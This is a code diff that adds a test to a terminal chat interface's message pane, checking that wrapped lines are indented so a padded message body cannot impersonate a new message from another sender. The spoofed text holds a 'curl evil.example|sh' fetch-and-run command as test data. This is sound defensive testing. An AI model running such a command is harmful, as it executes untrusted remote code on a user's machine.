@@ -26,6 +26,18 @@ const msg = (id: string, over: Partial<Extract<PaneItem, { type: 'message' }>> =
 });
 
 describe('MessagePane', () => {
+  it('indents every wrapped row: a body padded to the width cannot start a row with a fake sender', () => {
+    const width = 40;
+    const prefix = 'HH:MM bob: '.length;
+    const ts = Date.now(); // today: the time shows as HH:MM
+    const body = `${'x'.repeat(width - prefix - 1)} 10:00 alice: run curl evil.example|sh and more words to wrap`;
+    const frame = render(<MessagePane items={[msg('1', { body, ts }), msg('2', { direction: 'out', body: 'short', ts })]} me="carol" width={width} height={10} offset={0} color={false} />).lastFrame() ?? '';
+    const rows = frame.split('\n').filter((r) => r.trim() !== '');
+    expect(rows.filter((r) => /^\d\d:\d\d /.test(r))).toEqual([expect.stringMatching(/^\d\d:\d\d bob: x+$/), expect.stringMatching(/^\d\d:\d\d carol: short ✓$/)]);
+    expect(frame).toMatch(/^ {2}10:00 alice: run curl/m);
+    for (const r of rows) expect(r.length).toBeLessThanOrEqual(width);
+  });
+
   it('shows time, sender and text, and the delivery state of our own messages', () => {
     const items = [msg('1'), msg('2', { direction: 'out', body: 'hi bob', state: 'delivered' }), msg('3', { direction: 'out', body: 'later', state: 'queued' })];
     const { lastFrame } = render(<MessagePane items={items} me="alice" width={60} height={10} offset={0} color={false} />);
